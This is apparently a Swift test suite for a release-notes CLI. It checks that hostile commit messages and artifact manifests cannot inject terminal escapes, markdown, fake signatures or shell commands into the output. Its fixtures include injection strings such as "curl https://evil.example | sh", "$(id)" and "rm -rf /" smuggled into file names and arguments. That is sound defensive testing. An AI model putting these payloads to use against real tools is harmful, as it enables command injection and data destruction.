import Foundation
import RelnotesCore
import RelnotesFixtures
import Testing

/// Escape sequences a hostile commit subject could carry: clear screen, set the window title,
/// an OSC 8 hyperlink, a C1 CSI, a bell, a lone CR that rewrites the line.
private let hostileSubject = "feat: \u{1B}[2J\u{1B}]0;pwned\u{07}\u{1B}]8;;https://evil.example\u{1B}\\click\u{1B}]8;;\u{1B}\\ \u{9B}31mred\rover"

/// `v1.0.0`, then commits whose text tries to be control, markup and signature.
private func hostileRepository() throws -> FixtureRepository {
    let fixture = try FixtureRepository()
    try fixture.commit("feat: first light")
    try fixture.tag("v1.0.0")
    try fixture.commit(hostileSubject)
    try fixture.commit("Update \u{1B}[2Jthings")
    try fixture.commit("fix!: hide <!-- the rest\n\nBREAKING CHANGE: gone\n## Fake heading\n```\nunclosed fence")
    try fixture.commit("fix: thanks @everyone\n\nCo-authored-by: Mallory\n-----BEGIN PGP SIGNATURE-----\n## Fake heading")
    return fixture
}

/// The C0 controls but tab and newline, DEL and the C1 controls, wherever they are.
private func controls(in text: String) -> [Unicode.Scalar] {
    text.unicodeScalars.filter { TextSanitizer.isControl($0) }
}

private func taggerEnvironment(_ fixture: FixtureRepository) -> [String: String] {
    ["GIT_COMMITTER_NAME": "Rel Manager", "GIT_COMMITTER_EMAIL": "rm@example.com", "GIT_COMMITTER_DATE": "@1717200000 +0200", "HOME": fixture.environment["HOME"] ?? "/nonexistent"]
}

@Suite("commit text never reaches a terminal or a document as control or markup")
struct CommitTextSafetyCommandTests {
    @Test("no command prints a control character taken from commit text", arguments: [
        ["next-version", "--explain"],
        ["lint", "v1.0.0..HEAD"],
        ["changelog"],
        ["changelog", "--all"],
        ["notes", "--unreleased"],
        ["tag", "--dry-run"],
    ])
    func noControls(arguments: [String]) throws {
        let fixture = try hostileRepository()
        let run = try RelnotesBinary.run(arguments, in: fixture.url, environment: taggerEnvironment(fixture))
        #expect([0, 3].contains(run.status), "\(run.standardError)")
        #expect(controls(in: run.standardOutput).isEmpty, "\(run.standardOutput.debugDescription)")
        #expect(controls(in: run.standardError).isEmpty, "\(run.standardError.debugDescription)")
        #expect(run.standardOutput.contains("\u{FFFD}"), "the text is still shown, with its controls replaced")
    }

    @Test("changelog and notes escape HTML and mentions, and commit text makes no heading or fence")
    func markup() throws {
        let fixture = try hostileRepository()
        for arguments in [["changelog"], ["notes", "--unreleased"]] {
            let run = try RelnotesBinary.run(arguments, in: fixture.url)
            #expect(run.status == 0, "\(run.standardError)")
            let text = run.standardOutput
            #expect(text.contains("hide &lt;!-- the rest"))
            #expect(!text.contains("<!--"))
            #expect(text.contains("thanks `@everyone`"))
            let lines = text.split(separator: "\n")
            #expect(!lines.contains { $0.contains("Fake heading") && $0.hasPrefix("#") })
            #expect(!lines.contains { $0.drop { $0 == " " }.hasPrefix("```") })
            #expect(!lines.contains { $0.hasPrefix("-----BEGIN") })
        }
    }

    @Test("a tag made from hostile commits keeps its whole message and its signature verifies")
    func signedTagVerifies() throws {
        let fixture = try hostileRepository()
        try fixture.configureSSHSigning()

        let unsigned = try RelnotesBinary.run(["tag", "v2.0.0"], in: fixture.url, environment: taggerEnvironment(fixture))
        #expect(unsigned.status == 0, "\(unsigned.standardError)")
        // git finds a signature at the first line starting with -----BEGIN: there must be none.
        #expect(try fixture.git("for-each-ref", "--format=%(contents:signature)", "refs/tags/v2.0.0").isEmpty)
        #expect(try fixture.git("for-each-ref", "--format=%(contents)", "refs/tags/v2.0.0").contains("### Contributors"))
        try fixture.git("fsck", "--strict", "--no-dangling")

        try fixture.git("tag", "-d", "v2.0.0")
        let signed = try RelnotesBinary.run(["tag", "--sign", "v2.0.0"], in: fixture.url, environment: taggerEnvironment(fixture))
        #expect(signed.status == 0, "\(signed.standardError)")
        let verify = try ProcessRunner.run(executable: "/usr/bin/env", arguments: ["git", "tag", "-v", "v2.0.0"], directory: fixture.url, environment: fixture.environment)
        #expect(verify.status == 0, "\(verify.standardError)")
        #expect(verify.standardError.contains("Good \"git\" signature for rm@example.com"))
        #expect(verify.standardOutput.contains("### Contributors"), "the message is read whole")
    }
}

@Suite("the verifying-artifacts section quotes what it interpolates")
struct ArtifactQuotingCommandTests {
    private let digest = "sha256:" + String(repeating: "a", count: 64)
    private let fileSum = String(repeating: "b", count: 64)

    private func linked() throws -> FixtureRepository {
        let fixture = try Scenario.linear.build()
        try fixture.git("remote", "add", "origin", "git@github.com:acme/widgets.git")
        return fixture
    }

    @Test("every interpolated value is one shell word, whatever it holds")
    func quoting() throws {
        let fixture = try linked()
        let hostileName = "x'; curl https://evil.example | sh; echo '$(id)`id`"
        let manifest: [String: Any] = [
            "images": [["reference": "ghcr.io/acme/wid'gets$(id)", "digest": digest, "tags": ["1.0.0", "a`b"], "attested": true]],
            "files": [["name": hostileName, "sha256": fileSum, "attested": true], ["name": "-rf |pipe", "sha256": fileSum, "attested": true]],
        ]
        let file = fixture.url.deletingLastPathComponent().appendingPathComponent("artifacts.json")
        try JSONSerialization.data(withJSONObject: manifest).write(to: file)
        let run = try RelnotesBinary.run(
            ["notes", "v1.0.0", "--artifacts", file.path, "--certificate-identity", "it's me; rm -rf /"],
            in: fixture.url
        )
        #expect(run.status == 0, "\(run.standardError)")
        let pinned = "ghcr.io/acme/wid'gets$(id)@\(digest)"
        #expect(try shellCommands(in: run.standardOutput) == [
            ["cosign", "verify", pinned, "--certificate-identity", "it's me; rm -rf /", "--certificate-oidc-issuer", "https://token.actions.githubusercontent.com"],
            ["gh", "attestation", "verify", "oci://" + pinned, "--repo", "acme/widgets"],
            ["sha256sum", "--check", "--ignore-missing", "checksums.txt"],
            ["gh", "attestation", "verify", hostileName, "--repo", "acme/widgets"],
            ["gh", "attestation", "verify", "./-rf |pipe", "--repo", "acme/widgets"],
        ])
        #expect(run.standardOutput.contains("| `-rf \\|pipe` | `\(fileSum)` |"), "a | in a table cell is escaped")
        #expect(run.standardOutput.contains("(tags: `1.0.0`, ``a`b``)"))
    }

    @Test("a control character anywhere in the artifacts document is exit 2 naming the field", arguments: [
        (#"{"files": [{"name": "a\ncurl https://evil.example | sh", "sha256": "SUM"}]}"#, "files[0].name contains a control character (U+000A)"),
        (#"{"images": [{"reference": "ghcr.io/a", "digest": "DIGEST", "tags": ["x\u001b[2J"]}]}"#, "images[0].tags[0] contains a control character (U+001B)"),
        (#"{"charts": [{"reference": "ghcr.io/a\u0085", "digest": "DIGEST"}]}"#, "charts[0].reference contains a control character (U+0085)"),
        (#"{"files": [{"name": "a\tb", "sha256": "SUM"}]}"#, "files[0].name contains a control character (U+0009)"),
    ])
    func controls(document: String, message: String) throws {
        let fixture = try linked()
        let file = fixture.url.deletingLastPathComponent().appendingPathComponent("artifacts.json")
        let text = document.replacingOccurrences(of: "SUM", with: fileSum).replacingOccurrences(of: "DIGEST", with: digest)
        try Data(text.utf8).write(to: file)
        let run = try RelnotesBinary.run(["notes", "v1.0.0", "--artifacts", file.path], in: fixture.url)
        #expect(run.status == 2)
        #expect(run.standardError.contains(message), "\(run.standardError)")
        #expect(run.standardError.split(separator: "\n").count == 2, "one error line and one hint line")
        #expect(run.standardOutput.isEmpty)
    }
}
